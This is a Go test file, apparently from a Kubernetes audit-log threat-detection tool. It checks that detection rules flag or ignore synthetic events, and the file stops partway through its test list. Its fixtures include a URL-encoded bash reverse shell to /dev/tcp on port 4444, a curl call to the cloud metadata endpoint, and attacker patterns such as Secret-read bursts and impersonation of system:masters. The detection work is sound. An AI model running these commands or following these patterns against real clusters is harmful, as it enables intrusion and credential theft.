package detect

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	rbacv1 "k8s.io/api/rbac/v1"

	"github.com/kubegrant/kubegrant/detect/audit"
	"github.com/kubegrant/kubegrant/reports"
	"github.com/kubegrant/kubegrant/scanner"
)

var t0 = time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)

// evo describes a test event; zero fields get sensible defaults.
type evo struct {
	id, user, verb, group, res, sub, ns, name, ip, ua, dec, reason, uri, stage string
	groups, ips                                                                []string
	imp                                                                        *audit.RawUser
	extra                                                                      map[string][]string
	ann                                                                        map[string]string
	req, resp                                                                  string
	at                                                                         time.Duration
	code                                                                       int
	line                                                                       int
}

var evSeq int

// ev builds the normalised event the stream would deliver for o.
func ev(o evo) *audit.Event {
	evSeq++
	e := &audit.RawEvent{
		AuditID:    o.id,
		Stage:      o.stage,
		Verb:       o.verb,
		RequestURI: o.uri,
		User:       audit.RawUser{Username: o.user, Groups: o.groups, Extra: o.extra},
		UserAgent:  o.ua,
		SourceIPs:  []string{o.ip},
		Annotations: map[string]string{
			audit.AnnotationDecision: o.dec,
			audit.AnnotationReason:   o.reason,
		},
		ImpersonatedUser: o.imp,
		RequestReceived:  t0.Add(o.at),
		StageTimestamp:   t0.Add(o.at + 5*time.Millisecond),
	}
	if e.AuditID == "" {
		e.AuditID = fmt.Sprintf("id-%d", evSeq)
	}
	if e.Stage == "" {
		e.Stage = audit.StageResponseComplete
	}
	if o.dec == "" {
		e.Annotations[audit.AnnotationDecision] = "allow"
		if o.reason == "" {
			// RBAC allowed it, as it does most requests.
			e.Annotations[audit.AnnotationReason] = `RBAC: allowed by ClusterRoleBinding "test" of ClusterRole "test" to User "` + o.user + `"`
		}
	}
	if o.ip == "" {
		e.SourceIPs = []string{"203.0.113.10"}
	}
	if o.ips != nil {
		e.SourceIPs = o.ips
	}
	if o.res != "" {
		e.ObjectRef = &audit.RawObjectRef{Resource: o.res, Subresource: o.sub, Namespace: o.ns, Name: o.name, APIGroup: o.group, APIVersion: "v1"}
	}
	for k, v := range o.ann {
		e.Annotations[k] = v
	}
	if o.req != "" {
		e.RequestObject = json.RawMessage(o.req)
	}
	if o.resp != "" {
		e.ResponseObject = json.RawMessage(o.resp)
	}
	if o.code != 0 {
		e.ResponseStatus = &audit.RawStatus{Code: o.code}
	}
	return e.Normalize(scanner.Source{File: "audit.log", Line: o.line})
}

// run feeds events to a fresh catalogue and returns findings by rule id.
func run(opts DetectOptions, events []*audit.Event) map[string][]reports.Finding {
	out := map[string][]reports.Finding{}
	ds := Detectors(opts)
	for _, e := range events {
		for _, d := range ds {
			d.Observe(e)
		}
	}
	for _, d := range ds {
		if fs := d.Findings(); len(fs) > 0 {
			out[d.Rule().ID] = fs
		}
	}
	return out
}

func TestCatalogueMetadata(t *testing.T) {
	ds := Detectors(DetectOptions{})
	slug := regexp.MustCompile(`^[a-z0-9-]+$`)
	id := regexp.MustCompile(`^KGD[0-9]{2}$`)
	var ids []string
	for _, d := range ds {
		r := d.Rule()
		ids = append(ids, r.ID)
		if !id.MatchString(r.ID) || !slug.MatchString(r.Slug) {
			t.Errorf("%s: bad id or slug %q", r.ID, r.Slug)
		}
		if r.Title == "" || r.Description == "" || !strings.HasSuffix(r.Remediation, ".") {
			t.Errorf("%s: title, description and a remediation ending in '.' are required", r.ID)
		}
		if r.Severity.Rank() == 0 {
			t.Errorf("%s: bad severity %q", r.ID, r.Severity)
		}
		// KGD01–KGD25 are the catalogue's D01–D25; later detections
		// (KGD26 onward) map to the static patterns they exercise.
		beyond := r.ID > "KGD25"
		if len(r.Catalogue) == 0 || !beyond && !strings.HasPrefix(r.Catalogue[0], "D") {
			t.Errorf("%s: catalogue %v must start with its D-number", r.ID, r.Catalogue)
		}
		if !beyond && "KG"+r.Catalogue[0][:1]+r.Catalogue[0][1:] != r.ID {
			t.Errorf("%s: id does not match catalogue %s", r.ID, r.Catalogue[0])
		}
		if !slices.ContainsFunc(r.Tags, func(s string) bool { return strings.HasPrefix(s, "MITRE ATT&CK T") }) {
			t.Errorf("%s: no MITRE ATT&CK tag in %v", r.ID, r.Tags)
		}
		if len(r.References) == 0 {
			t.Errorf("%s: no references", r.ID)
		}
		if fs := d.Findings(); fs == nil || len(fs) != 0 {
			t.Errorf("%s: Findings of a fresh detector = %#v, want empty non-nil", r.ID, fs)
		}
	}
	if !slices.IsSorted(ids) || len(slices.Compact(slices.Clone(ids))) != len(ids) {
		t.Errorf("rule ids not sorted and unique: %v", ids)
	}
	want := []string{"KGD01", "KGD02", "KGD03", "KGD04", "KGD05", "KGD06", "KGD07", "KGD08", "KGD09", "KGD10", "KGD11", "KGD12", "KGD13",
		"KGD14", "KGD15", "KGD16", "KGD17", "KGD18", "KGD19", "KGD20", "KGD21", "KGD22", "KGD23", "KGD24", "KGD25", "KGD26",
		"KGD27", "KGD28", "KGD29", "KGD30", "KGD31", "KGD32"}
	if diff := cmp.Diff(want, ids); diff != "" {
		t.Errorf("catalogue mismatch (-want +got):\n%s", diff)
	}
}

func TestGlobMatch(t *testing.T) {
	for _, tc := range []struct {
		p, s string
		want bool
	}{
		{"system:node:*", "system:node:n1", true},
		{"system:node:*", "system:nodes", false},
		{"eks:*", "eks:", true},
		{"a*b*c", "axxbyyc", true},
		{"a*b*c", "axxbyy", false},
		{"*", "", true},
		{"exact", "exact", true},
		{"exact", "exactly", false},
		{"sh.helm.release.*", "sh.helm.release.v1.x.v2", true},
		{"*-controller", "x-controller-y", false},
		{"a*a", "a", false},
	} {
		if got := globMatch(tc.p, tc.s); got != tc.want {
			t.Errorf("globMatch(%q, %q) = %v, want %v", tc.p, tc.s, got, tc.want)
		}
	}
}

func TestDetectionsFireAndDoNotFire(t *testing.T) {
	tokenReq := func(user string, o evo) *audit.Event {
		o.user, o.verb, o.res, o.sub = user, "create", "serviceaccounts", "token"
		if o.ns == "" {
			o.ns, o.name = "apps", "builder"
		}
		return ev(o)
	}
	secretGet := func(user, ns, name string, at time.Duration, o evo) *audit.Event {
		o.user, o.verb, o.res, o.ns, o.name, o.at = user, "get", "secrets", ns, name, at
		if o.ua == "" {
			o.ua = "kubectl/v1.34.0"
		}
		return ev(o)
	}
	podSA := func(o evo) evo {
		o.user = "system:serviceaccount:apps:web"
		o.extra = map[string][]string{audit.ExtraPodName: {"web-7d9f"}, audit.ExtraNodeName: {"node-1"}, audit.ExtraPodUID: {"u1"}}
		return o
	}
	const crbAdmin = `{"kind":"ClusterRoleBinding","metadata":{"name":"x"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"mallory"}]}`
	const crbView = `{"kind":"ClusterRoleBinding","metadata":{"name":"x"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"},"subjects":[{"kind":"User","name":"mallory"}]}`
	privPod := `{"kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"alpine","securityContext":{"privileged":true}}]}}`
	hostPathPod := func(p string) string {
		return `{"kind":"Pod","metadata":{"name":"p"},"spec":{"volumes":[{"name":"v","hostPath":{"path":"` + p + `"}}],"containers":[{"name":"c","image":"alpine"}]}}`
	}

	model := &scanner.Graph{Grants: []scanner.Grant{
		{Subject: scanner.Subject{Ref: scanner.Ref{Kind: scanner.KindServiceAccount, Namespace: "apps", Name: "builder"}},
			Binding: scanner.Ref{Kind: scanner.KindClusterRoleBinding, Name: "builder-admin"},
			Rule:    rbacv1.PolicyRule{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}},
		{Subject: scanner.Subject{Ref: scanner.Ref{Kind: scanner.KindServiceAccount, Namespace: "apps", Name: "reader"}},
			Binding: scanner.Ref{Kind: scanner.KindRoleBinding, Namespace: "apps", Name: "reader"}, Scope: "apps",
			Rule: rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get"}}},
	}}

	checkDetectionCases(t, []detectionCase{
		// KGD01
		{name: "D01 a token for a cluster-admin ServiceAccount", opts: DetectOptions{Model: model}, events: []*audit.Event{tokenReq("alice", evo{})},
			rule: "KGD01", want: 1, sev: reports.Critical, msg: "which is cluster-admin through ClusterRoleBinding/builder-admin"},
		{name: "D01 a token for a ServiceAccount that holds nothing", opts: DetectOptions{Model: model}, events: []*audit.Event{tokenReq("alice", evo{ns: "apps", name: "idle"})},
			rule: "KGD01", want: 1, sev: reports.Medium, msg: "which holds no RBAC grant"},
		{name: "D01 a token for a ServiceAccount with some rights", opts: DetectOptions{Model: model}, events: []*audit.Event{tokenReq("alice", evo{ns: "apps", name: "reader"})},
			rule: "KGD01", want: 1, sev: reports.High},
		{name: "D01 user mints token", events: []*audit.Event{tokenReq("alice", evo{ann: map[string]string{audit.AnnotationIssuedCredential: "JTI=abc"}})},
			rule: "KGD01", want: 1, msg: "alice minted 1 token for ServiceAccount apps/builder via TokenRequest (credential IDs: JTI=abc)"},
		{name: "D01 two mints same target make one finding", events: []*audit.Event{tokenReq("alice", evo{}), tokenReq("alice", evo{at: time.Minute})},
			rule: "KGD01", want: 1, msg: "minted 2 tokens"},
		{name: "D01 two targets make two findings", events: []*audit.Event{tokenReq("alice", evo{}), tokenReq("alice", evo{ns: "apps", name: "other"})},
			rule: "KGD01", want: 2},
		{name: "D01 kubelet is allow-listed", events: []*audit.Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 0},
		{name: "D01 kube-system SA is allow-listed", events: []*audit.Event{tokenReq("system:serviceaccount:kube-system:foo", evo{})}, rule: "KGD01", want: 0},
		{name: "D01 a denied attempt is reported apart, lower", events: []*audit.Event{tokenReq("alice", evo{dec: "forbid", code: 403})},
			rule: "KGD01", want: 1, sev: reports.Medium, msg: "alice tried to mint a token for ServiceAccount apps/builder via TokenRequest and was refused (1 attempt)"},
		{name: "D01 mint and attempt are two findings", events: []*audit.Event{tokenReq("alice", evo{}), tokenReq("alice", evo{dec: "forbid", code: 403})}, rule: "KGD01", want: 2},
		{name: "D01 denied to an allow-listed caller", events: []*audit.Event{tokenReq("system:node:n1", evo{dec: "forbid", code: 403})}, rule: "KGD01", want: 0},
		{name: "D01 impersonating an allowed identity does not exempt", events: []*audit.Event{tokenReq("mallory", evo{imp: &audit.RawUser{Username: "system:kube-controller-manager"}})},
			rule: "KGD01", want: 1, msg: "mallory (as system:kube-controller-manager)"},
		{name: "D01 custom allow-list", opts: DetectOptions{TokenRequestAllow: Users("alice")}, events: []*audit.Event{tokenReq("alice", evo{})}, rule: "KGD01", want: 0},
		{name: "D01 empty allow-list flags the kubelet", opts: DetectOptions{TokenRequestAllow: AllowList{}}, events: []*audit.Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 1},
		{name: "D01 get on serviceaccounts is not a TokenRequest", events: []*audit.Event{ev(evo{user: "alice", verb: "get", res: "serviceaccounts", ns: "apps", name: "b"})}, rule: "KGD01", want: 0},

		// KGD02
		{name: "D02 three distinct secrets within window", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{dec: "forbid"}), secretGet("mallory", "db", "c", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 1, msg: "mallory read 3 distinct Secrets (2 allowed, 1 denied) in namespaces apps, db from 203.0.113.10 within 2m0s: apps/a, apps/b, db/c"},
		{name: "D02 two distinct secrets do not fire", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}), secretGet("mallory", "apps", "a", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 0},
		{name: "D02 spread over more than the window", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", 4*time.Minute, evo{}), secretGet("mallory", "apps", "c", 8*time.Minute, evo{}),
		}, rule: "KGD02", want: 0},
		{name: "D02 different user agents are different clients", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{ua: "a/1"}), secretGet("mallory", "apps", "b", time.Minute, evo{ua: "b/1"}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{ua: "c/1"}),
		}, rule: "KGD02", want: 0},
		{name: "D02 overlapping windows merge into one burst", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{}),
			secretGet("mallory", "apps", "d", 7*time.Minute, evo{}), secretGet("mallory", "apps", "e", 12*time.Minute, evo{}),
		}, rule: "KGD02", want: 1, msg: "read 5 distinct Secrets"},
		{name: "D02 counts distinct names, as Elastic does", events: []*audit.Event{
			secretGet("mallory", "apps", "db", 0, evo{}), secretGet("mallory", "prod", "db", time.Minute, evo{}), secretGet("mallory", "stage", "db", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 0},
		{name: "D02 X-Forwarded-For 127.0.0.1 does not hide a burst", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{ips: []string{"127.0.0.1", "198.51.100.9"}}), secretGet("mallory", "apps", "b", time.Minute, evo{ips: []string{"127.0.0.1", "198.51.100.9"}}),
			secretGet("mallory", "apps", "c", 2*time.Minute, evo{ips: []string{"127.0.0.1", "198.51.100.9"}}),
		}, rule: "KGD02", want: 1},
		{name: "D02 loopback only", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{ip: "127.0.0.1"}), secretGet("mallory", "apps", "b", time.Minute, evo{ip: "127.0.0.1"}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{ip: "::1"}),
		}, rule: "KGD02", want: 0},
		{name: "D02 trivy-operator in security is Elastic's exclusion", events: []*audit.Event{
			secretGet("system:serviceaccount:security:trivy-operator", "apps", "a", 0, evo{}), secretGet("system:serviceaccount:security:trivy-operator", "apps", "b", time.Minute, evo{}),
			secretGet("system:serviceaccount:security:trivy-operator", "apps", "c", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 0},
		{name: "D02 trivy-operator in trivy-system is not", events: []*audit.Event{
			secretGet("system:serviceaccount:trivy-system:trivy-operator", "apps", "a", 0, evo{}), secretGet("system:serviceaccount:trivy-system:trivy-operator", "apps", "b", time.Minute, evo{}),
			secretGet("system:serviceaccount:trivy-system:trivy-operator", "apps", "c", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 1},
		{name: "D02 flux's helm-controller is excluded, another flux-system SA is not", events: []*audit.Event{
			secretGet("system:serviceaccount:flux-system:helm-controller", "apps", "a", 0, evo{}), secretGet("system:serviceaccount:flux-system:helm-controller", "apps", "b", time.Minute, evo{}),
			secretGet("system:serviceaccount:flux-system:helm-controller", "apps", "c", 2*time.Minute, evo{}),
			secretGet("system:serviceaccount:flux-system:notification-controller", "apps", "a", 0, evo{}), secretGet("system:serviceaccount:flux-system:notification-controller", "apps", "b", time.Minute, evo{}),
			secretGet("system:serviceaccount:flux-system:notification-controller", "apps", "c", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 1, msg: "notification-controller"},
		{name: "D02 two separate bursts", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{}),
			secretGet("mallory", "apps", "d", 30*time.Minute, evo{}), secretGet("mallory", "apps", "e", 31*time.Minute, evo{}), secretGet("mallory", "apps", "f", 32*time.Minute, evo{}),
		}, rule: "KGD02", want: 2},
		{name: "D02 loopback excluded", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{ip: "127.0.0.1"}), secretGet("mallory", "apps", "b", time.Minute, evo{ip: "127.0.0.1"}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{ip: "127.0.0.1"}),
		}, rule: "KGD02", want: 0},
		{name: "D02 ipv6 loopback excluded", events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{ip: "::1"}), secretGet("mallory", "apps", "b", time.Minute, evo{ip: "::1"}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{ip: "::1"}),
		}, rule: "KGD02", want: 0},
		{name: "D02 helm release secrets excluded", events: []*audit.Event{
			secretGet("helm", "apps", "sh.helm.release.v1.a.v1", 0, evo{}), secretGet("helm", "apps", "sh.helm.release.v1.b.v1", time.Minute, evo{}), secretGet("helm", "apps", "sh.helm.release.v1.c.v1", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 0},
		{name: "D02 flux excluded", events: []*audit.Event{
			secretGet("system:serviceaccount:flux-system:kustomize-controller", "apps", "a", 0, evo{}), secretGet("system:serviceaccount:flux-system:kustomize-controller", "apps", "b", time.Minute, evo{}), secretGet("system:serviceaccount:flux-system:kustomize-controller", "apps", "c", 2*time.Minute, evo{}),
		}, rule: "KGD02", want: 0},
		{name: "D02 threshold option", opts: DetectOptions{SecretBurstThreshold: 2}, events: []*audit.Event{
			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}),
		}, rule: "KGD02", want: 1},

		// KGD03
		{name: "D03 list secrets cluster-wide", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets"})}, rule: "KGD03", want: 1, msg: "mallory listed Secrets in all namespaces"},
		{name: "D03 list secrets in kube-system", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ns: "kube-system"})}, rule: "KGD03", want: 1, msg: "namespace kube-system"},
		{name: "D03 list secrets in an app namespace", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ns: "apps"})}, rule: "KGD03", want: 0},
		{name: "D03 the namespace controller", events: []*audit.Event{ev(evo{user: "system:serviceaccount:kube-system:namespace-controller", verb: "list", res: "secrets", ns: "default"})}, rule: "KGD03", want: 0},
		{name: "D03 kube-state-metrics", events: []*audit.Event{ev(evo{user: "system:serviceaccount:monitoring:kube-state-metrics", verb: "list", res: "secrets"})}, rule: "KGD03", want: 0},
		{name: "D03 Elastic's argocd group", events: []*audit.Event{ev(evo{user: "system:serviceaccount:argocd:argocd-server", groups: []string{"system:serviceaccounts:argocd"}, verb: "list", res: "secrets"})}, rule: "KGD03", want: 0},
		{name: "D03 a watch is not a list", events: []*audit.Event{ev(evo{user: "mallory", verb: "watch", res: "secrets"})}, rule: "KGD03", want: 0},
		{name: "D03 X-Forwarded-For 127.0.0.1 from a remote client", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ips: []string{"127.0.0.1", "198.51.100.9"}})}, rule: "KGD03", want: 1},
		{name: "D03 loopback", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ip: "127.0.0.1"})}, rule: "KGD03", want: 0},
		{name: "D03 denied", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", dec: "forbid"})}, rule: "KGD03", want: 0},

		// KGD06
		{name: "D06 curl with a pod token", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "secrets", ns: "apps", name: "db", ua: "curl/8.5.0"}))},
			rule: "KGD06", want: 1, sev: reports.High, msg: "token of pod apps/web-7d9f (ServiceAccount system:serviceaccount:apps:web, node node-1) used by client curl/8.5.0"},
		{name: "D06 client-go controller UA does not fire", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "configmaps", ns: "apps", name: "c", ua: "web/v1.2 (linux/amd64) kubernetes/abc"}))}, rule: "KGD06", want: 0},
		{name: "D06 curl without pod-name extra", events: []*audit.Event{ev(evo{user: "system:serviceaccount:apps:web", verb: "get", res: "pods", ns: "apps", ua: "curl/8.5.0"})}, rule: "KGD06", want: 0},
		{name: "D06 Go-http-client from an expected pod", opts: DetectOptions{PodGoClientAllow: AllowList{{Pod: "apps/web-*"}}},
			events: []*audit.Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 0},
		{name: "D06 Go-http-client from another pod", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 1},
		{name: "D06 discovery burst", events: func() []*audit.Event {
			var es []*audit.Event
			for i, r := range []string{"pods", "secrets", "configmaps", "services", "deployments", "roles", "rolebindings", "nodes", "namespaces", "jobs", "cronjobs", "ingresses"} {
				es = append(es, ev(podSA(evo{verb: "list", res: r, ns: "apps", ua: "enum/1.0", dec: "forbid", at: time.Duration(i) * time.Second})))
			}
			return es
		}(), rule: "KGD06", want: 1, msg: "used by discovery burst: 12 requests (0 allowed, 12 denied)"},
		{name: "D06 slow listing is no burst", events: func() []*audit.Event {
			var es []*audit.Event
			for i, r := range []string{"pods", "secrets", "configmaps", "services", "deployments", "roles", "rolebindings", "nodes", "namespaces", "jobs", "cronjobs", "ingresses"} {
				es = append(es, ev(podSA(evo{verb: "list", res: r, ns: "apps", ua: "enum/1.0", at: time.Duration(i) * 10 * time.Second})))
			}
			return es
		}(), rule: "KGD06", want: 0},

		// KGD07
		{name: "D07 exec with IMDS curl", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", stage: audit.StageResponseStarted, code: 101,
			uri: "/api/v1/namespaces/apps/pods/web/exec?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&container=c&stdout=true"})},
			rule: "KGD07", want: 1, sev: reports.High, msg: "alice ran exec in pod apps/web (1 session): curl http://169.254.169.254/latest/meta-data/ [cloud metadata access]"},
		{name: "D07 plain exec is medium", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/api/v1/namespaces/apps/pods/web/exec?command=ls"})},
			rule: "KGD07", want: 1, sev: reports.Medium},
		{name: "D07 reverse shell", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/api/v1/namespaces/apps/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.1%2F4444+0%3E%261"})},
			rule: "KGD07", want: 1, sev: reports.High, msg: "[reverse shell]"},
		{name: "D07 denied exec", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", dec: "forbid"})}, rule: "KGD07", want: 0},
		{name: "D07 allow-listed caller", opts: DetectOptions{ExecAllow: Users("alice")}, events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web"})}, rule: "KGD07", want: 0},
		{name: "D07 token in command is redacted", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web",
			uri: "/x?command=curl&command=-H&command=Authorization%3A+Bearer+s3cr3tvalue&command=https%3A%2F%2Fkubernetes"})},
			rule: "KGD07", want: 1, msg: "Authorization: Bearer <redacted>"},

		// KGD08–KGD10
		{name: "D08 ephemeral container", events: []*audit.Event{ev(evo{user: "alice", verb: "patch", res: "pods", sub: "ephemeralcontainers", ns: "apps", name: "web"})}, rule: "KGD08", want: 1},
		{name: "D08 get ephemeral containers", events: []*audit.Event{ev(evo{user: "alice", verb: "get", res: "pods", sub: "ephemeralcontainers", ns: "apps", name: "web"})}, rule: "KGD08", want: 0},
		{name: "D09 port-forward", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "portforward", ns: "apps", name: "db"})}, rule: "KGD09", want: 1, msg: "alice port-forwarded to pod apps/db"},
		{name: "D09 pods get", events: []*audit.Event{ev(evo{user: "alice", verb: "get", res: "pods", ns: "apps", name: "db"})}, rule: "KGD09", want: 0},
		{name: "D10 nodes proxy run", events: []*audit.Event{ev(evo{user: "mon", verb: "create", res: "nodes", sub: "proxy", name: "n1", uri: "/api/v1/nodes/n1/proxy/run/apps/web/c?cmd=id"})},
			rule: "KGD10", want: 1, sev: reports.Critical, msg: "mon reached the kubelet of node n1 through nodes/proxy (1 request): /run/apps/web/c"},
		{name: "D10 nodes proxy metrics", events: []*audit.Event{ev(evo{user: "mon", verb: "get", res: "nodes", sub: "proxy", name: "n1", uri: "/api/v1/nodes/n1/proxy/metrics/cadvisor"})}, rule: "KGD10", want: 0},

		// KGD11
		{name: "D11 impersonate system:masters", events: []*audit.Event{ev(evo{user: "mallory", verb: "get", res: "secrets", ns: "kube-system", imp: &audit.RawUser{Username: "bob", Groups: []string{"system:masters"}}})},
			rule: "KGD11", want: 1, sev: reports.Critical, msg: "mallory impersonated group system:masters"},
		{name: "D11 impersonate ordinary user", events: []*audit.Event{ev(evo{user: "system:admin", verb: "get", res: "pods", ns: "ns1", imp: &audit.RawUser{Username: "bob", Groups: []string{"system:authenticated"}}})}, rule: "KGD11", want: 0},
		{name: "D11 impersonate kube-system SA", events: []*audit.Event{ev(evo{user: "mallory", verb: "get", res: "pods", imp: &audit.RawUser{Username: "system:serviceaccount:kube-system:replicaset-controller"}})}, rule: "KGD11", want: 1},

		// KGD12
		{name: "D12 cluster-admin binding", events: []*audit.Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x", req: crbAdmin})},
			rule: "KGD12", want: 1, msg: "mallory created ClusterRoleBinding x to cluster-admin for User mallory"},
		{name: "D12 apiserver bootstrap reconciliation", events: []*audit.Event{ev(evo{user: "system:apiserver", groups: []string{"system:masters"}, verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "cluster-admin", req: crbAdmin})},
			rule: "KGD12", want: 0},
		{name: "D12 view binding", events: []*audit.Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x", req: crbView})}, rule: "KGD12", want: 0},
		{name: "D12 metadata level (no body)", events: []*audit.Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x"})}, rule: "KGD12", want: 0},

		// KGD13
		{name: "D13 SA writes a role", events: []*audit.Event{ev(evo{user: "system:serviceaccount:apps:ci", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})},
			rule: "KGD13", want: 1, msg: "ServiceAccount system:serviceaccount:apps:ci wrote RBAC objects (1 request): create Role apps/r"},
		{name: "D13 kube-system SA", events: []*audit.Event{ev(evo{user: "system:serviceaccount:kube-system:x", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})}, rule: "KGD13", want: 0},
		{name: "D13 user writes a role", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})}, rule: "KGD13", want: 0},
		{name: "D13 SA reads roles", events: []*audit.Event{ev(evo{user: "system:serviceaccount:apps:ci", verb: "list", group: rbacGroup, res: "roles", ns: "apps"})}, rule: "KGD13", want: 0},

		// KGD14
		{name: "D14 patched to */*", events: []*audit.Event{ev(evo{user: "alice", verb: "patch", group: rbacGroup, res: "clusterroles", name: "r",
			req: `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`, resp: `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`})},
			rule: "KGD14", want: 1, sev: reports.Critical, msg: "alice patched ClusterRole r with wildcards: rule 0: verbs * on resources *"},
		{name: "D14 no wildcard", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "roles", ns: "a", name: "r", req: `{"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}]}`})}, rule: "KGD14", want: 0},
		{name: "D14 non-resource wildcard is not this", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "clusterroles", name: "r", req: `{"rules":[{"nonResourceURLs":["*"],"verbs":["*"]}]}`})}, rule: "KGD14", want: 0},

		// KGD17
		{name: "D17 privileged pod", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: privPod})}, rule: "KGD17", want: 1, msg: "alice created pods apps/p with privileged container c"},
		{name: "D17 privileged deployment", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: "apps", res: "deployments", ns: "apps", name: "d",
			req: `{"kind":"Deployment","metadata":{"name":"d"},"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"c","image":"x"}]}}}}`})}, rule: "KGD17", want: 1, msg: "hostPID"},
		{name: "D17 a create that failed created nothing", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: privPod, code: 500})}, rule: "KGD17", want: 0},
		{name: "D17 daemon-set controller in kube-system", events: []*audit.Event{ev(evo{user: "system:serviceaccount:kube-system:daemon-set-controller", verb: "create", res: "pods", ns: "kube-system", req: privPod})}, rule: "KGD17", want: 0},
		{name: "D17 GKE robot in kube-system", events: []*audit.Event{ev(evo{user: "service-123@container-engine-robot.iam.gserviceaccount.com", verb: "create", res: "pods", ns: "kube-system", req: privPod})}, rule: "KGD17", want: 0},
		{name: "D17 replicaset controller outside the system namespaces", events: []*audit.Event{ev(evo{user: "system:serviceaccount:kube-system:replicaset-controller", verb: "create", res: "pods", ns: "apps", req: privPod})}, rule: "KGD17", want: 1},
		{name: "D17 patched, not created", events: []*audit.Event{ev(evo{user: "alice", verb: "patch", res: "pods", ns: "apps", name: "p", req: privPod})}, rule: "KGD17", want: 1, msg: "alice patched pods"},
		{name: "D17 sensitive hostPath", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: hostPathPod("/var/run/docker.sock")})}, rule: "KGD17", want: 1},
		{name: "D17 harmless hostPath", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: hostPathPod("/var/log/app")})}, rule: "KGD17", want: 0},
